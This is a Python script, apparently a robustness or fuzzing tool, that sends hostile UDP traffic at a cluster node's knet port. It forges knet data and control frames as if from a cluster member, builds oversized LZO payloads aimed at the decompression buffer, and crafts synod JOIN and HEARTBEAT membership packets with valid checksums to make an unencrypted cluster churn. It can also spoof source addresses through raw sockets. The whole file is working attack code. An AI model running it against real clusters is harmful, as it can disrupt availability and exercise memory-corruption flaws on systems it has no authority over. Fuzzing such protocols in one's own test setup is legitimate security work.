#!/usr/bin/env python3
# SPDX-License-Identifier: BSD-3-Clause
"""knet_spoof.py - hostile UDP traffic at a node's knet port.

Sends, for a given time, a mix of:
  garbage   random bytes of random length;
  data      knet data frames (on-wire version 1) claiming to come from a
            member, with the compression byte set to every model id (lzo2
            most of all), random and over-long-literal lzo payloads,
            whole or as fragments;
  control   knet ping, pong and PMTUd frames claiming to come from a member;
  member    synod membership packets (JOIN, HEARTBEAT) with a correct
            CRC-32C, framed as synod frames them, in uncompressed knet
            data frames, forged as a member
            with a new boot epoch and a ring sequence far ahead: what makes
            an unencrypted cluster churn.
With --spoof-src the packets leave through a raw socket with that source
address (and the knet port as source port); otherwise from an ordinary
UDP socket of this host.  Prints one line with the counts sent.

knet on-wire header, version 1 (libknet onwire.h, network byte order):
  off size field
    0    1 kh_version   1
    1    1 kh_type      0x00 data, 0x81 ping, 0x82 pong, 0x83/0x84 pmtud
    2    2 kh_node      source node id
    4    1 kh_max_ver   1
    5    1 kh_pad1
  data payload:
    6    2 seq_num
    8    1 compress     model id: 1 zlib 2 lz4 3 lz4hc 4 lzo2 5 lzma 6 bzip2 7 zstd
    9    1 pad
   10    1 bcast
   11    1 frag_num     1 = whole
   12    1 frag_seq
   13    1 channel
   14      user data
In front of a membership packet (core/mem_wire.h, little endian) synod
puts its frame (proto/net_cluster.h): magic, source node, destination.

The environment variable KNET_SPOOF_KINDS (e.g. "member") limits the mix
to the kinds it lists.

usage: knet_spoof.py TARGET_IP PORT CLAIMED_NODE SECONDS [--spoof-src IP]
"""
import os
import random
import socket
import struct
import sys
import time

KNET_DATA, KNET_PING, KNET_PONG, KNET_PMTUD, KNET_PMTUD_REPLY = 0x00, 0x81, 0x82, 0x83, 0x84
LZO2 = 4
SYN_FRAME_MAGIC = 0x314E5953  # proto/net_cluster.h


def crc32c(data):
    crc = 0xFFFFFFFF
    for b in data:
        crc ^= b
        for _ in range(8):
            crc = (crc >> 1) ^ (0x82F63B78 if crc & 1 else 0)
    return crc ^ 0xFFFFFFFF


def knet_header(ktype, node, version=1):
    return struct.pack(">BBHBB", version, ktype, node, 1, 0)


def knet_data(node, payload, compress=0, frag_num=1, frag_seq=1, channel=0, seq=None):
    if seq is None:
        seq = random.randrange(1, 65536)
    return knet_header(KNET_DATA, node) + struct.pack(
        ">HBBBBBb", seq, compress, 0, 1, frag_num, frag_seq, channel) + payload


def lzo_payload():
    """Random bytes, or a stream whose first literal run is far longer than
    the packet and than knet's decompression buffer."""
    if random.random() < 0.5:
        return os.urandom(random.randrange(1, 1400))
    zeros = random.randrange(300, 1300)
    return b"\x00" + b"\x00" * zeros + b"\xff" + os.urandom(random.randrange(0, 64))


def member_packet(sender, ptype, epoch):
    ring = struct.pack("<QII", 1 << 40 | random.randrange(1 << 20), sender, epoch)
    if ptype == 1:  # JOIN: ring have max_seq join_counter pad
        body = ring + struct.pack("<QQII", 0, 1 << 41, random.randrange(1, 1 << 31), 0)
    else:  # HEARTBEAT: ring high stable
        body = ring + struct.pack("<QQ", 1 << 30, 1 << 30)
    length = 24 + len(body)
    hdr = struct.pack("<HBBIIIII", 0x5359, 1, ptype, length, sender, epoch, 0, 0)
    pkt = hdr + body
    crc = crc32c(pkt)
    return pkt[:16] + struct.pack("<I", crc) + pkt[20:]


def packets(node):
    """An endless mix of hostile packets, each tagged with its kind."""
    epoch = random.randrange(1, 1 << 31)
    while True:
        r = random.random()
        if r < 0.15:
            yield "garbage", os.urandom(random.randrange(1, 1400))
        elif r < 0.65:
            model = LZO2 if random.random() < 0.6 else random.randrange(1, 8)
            if random.random() < 0.8:
                yield "data", knet_data(node, lzo_payload(), compress=model)
            else:
                n = random.randrange(2, 6)
                yield "data", knet_data(node, lzo_payload(), compress=model, frag_num=n,
                                        frag_seq=random.randrange(1, n + 1))
        elif r < 0.8:
            ktype = random.choice([KNET_PING, KNET_PONG, KNET_PMTUD, KNET_PMTUD_REPLY])
            body = struct.pack(">B", 0) + os.urandom(random.choice([19, 2, 64, 1200]))
            yield "control", knet_header(ktype, node, random.choice([0, 1, 2, 255])) + body
        else:
            frame = struct.pack("<III", SYN_FRAME_MAGIC, node, 0)
            yield "member", knet_data(node, frame + member_packet(node, random.choice([1, 5]), epoch))


def raw_sender(src, port):
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)

    def send(payload, dst):
        udp = struct.pack(">HHHH", port, dst[1], 8 + len(payload), 0) + payload
        ip = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), random.randrange(65536), 0,
                         64, socket.IPPROTO_UDP, 0, socket.inet_aton(src),
                         socket.inet_aton(dst[0]))
        s.sendto(ip + udp, dst)
    return send


def udp_sender():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    return lambda payload, dst: s.sendto(payload, dst)


def main(argv):
    if len(argv) not in (5, 7) or (len(argv) == 7 and argv[5] != "--spoof-src"):
        sys.stderr.write(__doc__.rsplit("usage: ", 1)[1])
        return 2
    target, port, node, seconds = argv[1], int(argv[2]), int(argv[3]), float(argv[4])
    send = raw_sender(argv[6], port) if len(argv) == 7 else udp_sender()
    kinds = os.environ.get("KNET_SPOOF_KINDS", "garbage data control member").split()
    counts = {}
    end = time.monotonic() + seconds
    for kind, pkt in packets(node):
        if time.monotonic() >= end:
            break
        if kind not in kinds:
            continue
        try:
            send(pkt, (target, port))
        except OSError:
            kind += "_failed"
        counts[kind] = counts.get(kind, 0) + 1
    print(" ".join("%s=%d" % kv for kv in sorted(counts.items())))
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
